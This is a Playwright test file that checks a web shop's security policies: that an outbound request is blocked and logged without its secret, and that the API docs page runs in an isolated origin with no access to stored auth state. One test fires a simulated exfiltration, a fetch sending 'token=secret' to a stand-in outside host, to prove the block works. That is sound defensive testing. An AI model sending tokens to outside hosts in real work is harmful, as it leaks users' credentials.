import { watchPolicies } from '../support/pages/watch-policies.ts'
import { expect, test } from '../support/shops/shop-fixture.ts'

test.use({ serviceWorkers: 'allow' })

test('what a policy stops is in the shop’s log (security polish)', async ({ page, shopProcess }) => {
  await page.goto('/support')
  await page.evaluate(() => fetch('https://elsewhere.example/x?token=secret').catch(() => {}))
  await expect.poll(() => shopProcess.log()).toContain('"blocked":"https://elsewhere.example"')
  expect(shopProcess.log()).not.toContain('token=secret')
})

test('the API reference works in an origin of its own, out of reach of the shop’s storage (PLAT-06, security 10)', async ({
  page,
  shop,
}) => {
  test.slow()
  await page.goto('/')
  await page.evaluate(() => localStorage.setItem('dray-auth-state', 'a secret'))
  const elsewhere: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(shop) && !/^(data|blob):/.test(request.url())) elsewhere.push(request.url())
  })
  const said = watchPolicies(page)
  await page.goto('/docs/api')
  await expect(page.getByRole('heading', { name: 'Dray', level: 1 })).toBeVisible({ timeout: 60_000 })
  await page.getByRole('link', { name: 'Support', exact: true }).click()
  await expect(page.getByText('Sends a message to support').first()).toBeVisible()
  const storage = await page.evaluate(() => localStorage.getItem('dray-auth-state'))
  expect(storage).toBeNull()
  expect(await page.evaluate(() => origin)).toBe('null')
  expect(elsewhere).toEqual([])
  expect(said).toEqual([])
})
